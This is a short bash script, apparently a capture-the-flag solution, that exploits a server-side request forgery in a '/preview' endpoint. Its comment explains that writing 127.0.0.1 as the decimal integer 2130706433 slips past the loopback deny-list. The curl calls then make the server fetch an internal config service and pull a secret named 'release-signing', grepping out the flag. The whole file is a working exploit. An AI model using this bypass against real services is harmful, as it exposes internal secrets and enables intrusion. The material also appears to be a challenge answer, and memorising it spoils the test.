#!/bin/bash
# /preview fetches any URL server-side. The deny-list only matches the usual
# spellings of loopback; 127.0.0.1 written as a decimal integer
# (2130706433) passes it and still reaches cfgd on 127.0.0.1:9000.
set -euo pipefail
p() { curl -s --get --data-urlencode "url=$1" http://web:8080/preview; }
p http://2130706433:9000/ >/dev/null
p http://2130706433:9000/v1/secrets >/dev/null
p http://2130706433:9000/v1/secrets/release-signing | grep -o 'flag{[0-9a-f]*}' | head -n1
